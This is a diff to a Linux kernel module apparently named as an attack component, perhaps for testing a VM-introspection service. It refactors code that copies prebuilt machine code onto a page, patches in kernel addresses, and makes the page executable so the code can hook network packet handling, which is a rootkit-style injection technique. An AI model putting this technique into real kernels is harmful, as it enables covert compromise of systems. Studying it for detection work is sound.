@@ -37,6 +37,7 @@
 #include <linux/string.h>
 #include <net/net_namespace.h>
 
+#include "vmiaas_attack_execpage.h"
 #include "vmiaas_attack_magic.h"
 
 static ushort magic_len = 42;
@@ -104,30 +105,17 @@ static const u8 heap_code[] = {
 #define HEAP_HITS	6
 #define HEAP_CONSUME	19
 
-typedef int (*set_memory_fn)(unsigned long addr, int numpages);
-
 /* The handler copied to an executable page of its own: see the top. */
 static void *vmiaas_attack_ptype_heap(void)
 {
-	set_memory_fn ro = (set_memory_fn)setro, x = (set_memory_fn)setx;
-	unsigned long page, hits_at = (unsigned long)&hits;
+	unsigned long hits_at = (unsigned long)&hits;
 	unsigned long consume_at = (unsigned long)consume_skb;
-	int err;
+	u8 code[sizeof(heap_code)];
 
-	if (!ro || !x)
-		return ERR_PTR(-EINVAL);
-	page = __get_free_page(GFP_KERNEL);
-	if (!page)
-		return ERR_PTR(-ENOMEM);
-	memset((void *)page, 0xcc, PAGE_SIZE);
-	memcpy((void *)page, heap_code, sizeof(heap_code));
-	memcpy((void *)page + HEAP_HITS, &hits_at, 8);
-	memcpy((void *)page + HEAP_CONSUME, &consume_at, 8);
-	err = ro(page, 1);
-	err = err ?: x(page, 1);
-	if (err)
-		return ERR_PTR(err);	/* the page leaks: it may be executable */
-	return (void *)page;
+	memcpy(code, heap_code, sizeof(code));
+	memcpy(code + HEAP_HITS, &hits_at, 8);
+	memcpy(code + HEAP_CONSUME, &consume_at, 8);
+	return vmiaas_attack_execpage(code, sizeof(code), setro, setx);
 }
 
 static int __init vmiaas_attack_ptype_init(void)
